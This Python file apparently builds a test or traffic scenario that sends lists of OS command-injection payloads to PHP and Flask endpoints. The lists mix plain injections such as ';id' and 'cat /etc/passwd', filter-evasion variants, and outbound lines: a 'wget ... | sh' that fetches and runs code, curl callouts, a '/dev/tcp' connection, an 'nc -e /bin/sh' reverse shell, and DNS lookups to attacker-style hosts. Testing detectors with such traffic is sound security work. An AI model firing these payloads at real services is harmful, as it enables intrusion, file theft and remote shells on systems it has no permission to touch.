# SPDX-License-Identifier: GPL-2.0-or-later
"""Commands for a shell behind PHP and Flask: bare, in quotes of both kinds, in a pipe; shown, thrown away, mended."""
from lib.steps import form, get, q, sends, values

OUT = '198.51.100.140'
BARE = ['localhost;id', 'localhost|whoami', 'localhost&&uname -a', 'x||id', 'localhost;cat /etc/passwd', '$(id)', '`whoami`', 'localhost;echo $((8191*13))', 'localhost%0aid'.replace('%0a', '\n'),
        'localhost;sleep 2', 'localhost;ls -la /', 'localhost&hostname', ';ping -c1 192.0.2.99', f';curl -s http://{OUT}:9090/k', ';wget -qO- http://192.0.2.99/step|sh', ';getent hosts k7.drop.example',
        'localhost;cat${IFS}/etc/hostname', 'localhost;expr 733 \\* 12', "localhost;printf '%s' kontorprobe|rev", 'localhost;echo aWQ=|base64 -d|sh', 'localhost;touch /tmp/konto', 'localhost;nichtda123',
        f';exec 3<>/dev/tcp/{OUT}/9090', f";bash -c 'exec 3<>/dev/tcp/{OUT}/9090; echo ja >&3'", 'localhost;head -n 3 /etc/group', "localhost;awk 'BEGIN{print 77*1301}'", 'localhost;seq 40 44', ';php -r "echo 4177*3;"',
        'localhost;perl -e "print 919*7"', ';python3 -c "print(2**41)"', 'localhost;w"h"oami', "localhost;c'a't /et?/passw?", 'localhost;{id,}', 'localhost;X=i;Y=d;$X$Y', 'localhost;date +%s >/dev/null', '127.0.0.1;set|head -4', ';env',
        f';nc -e /bin/sh {OUT} 4448', ';sleep 1;id', 'localhost;cut -d: -f1 /etc/passwd|sort|tail -2', '(id)', 'localhost\tid']
QUOTED = ['localhost";id;"', 'localhost"|cat /etc/passwd #', '$(uname -r)', '`hostname`', 'x";echo $((5003*11));"', 'x" || sleep 2 || "', 'localhost;id', "localhost';id;'", '$(sleep 2)', f'x"; wget -q http://192.0.2.99/q; "', '"', 'x$(printf 4%d 71)']
SINGLE = ["localhost';id;'", "x';expr 61 \\* 61 #", "localhost'&&whoami&&'", '$(id)', ';id', "x'|cat /etc/issue;'", "x'$(sleep 2)'", "x'; getent hosts s9.drop.example; '", "'"]
ARCHIVE = ['arnica"; id; "', 'arnica$(whoami)', 'x"|uname -s;echo "', '`sleep 2`', 'a"; echo $((123*457)); "', 'gentiane', 'x" /etc/passwd; "', '"', f'a"; curl -s http://{OUT}:9090/z; "']
KONTOR = [('203.0.113.31', 80), ('203.0.113.32', 80), ('203.0.113.33', 80)]
HERBIER = [('203.0.113.51', 8000), ('203.0.113.52', 8000), ('203.0.113.53', 8000)]


def spaced(steps):
    """What calls out gets time of its own, so that its contacts are no one else's."""
    for step in steps:
        far = any(word in step['target'] + str(step.get('body')) for word in ('192.0.2', '198.51', 'drop.example'))
        yield dict(step, pause=1.6 if far else 0.05)


SCENARIO = [
    (KONTOR, [get('/erreichbar?ziel=localhost'), get('/erreichbar?ziel=nirgends.example'), *spaced(values('/erreichbar', 'ziel', 'cmdi', *BARE, keep=True)),
              *spaced(values('/erreichbar?art=zitat', 'ziel', 'cmdi', *QUOTED, gzip=True)), *spaced(form('/erreichbar', {'art': 'einfach', 'ziel': s, 'roh': '1'}, 'cmdi') for s in SINGLE)]),
    (HERBIER, [get('/outils/dns?domaine=localhost'), *spaced(values('/outils/dns', 'domaine', 'cmdi', *BARE[::2])), *spaced(sends('/api/archive', {'nom': a}, 'cmdi') for a in ARCHIVE), sends('/api/archive', {'nom': 'arnica'})]),
]
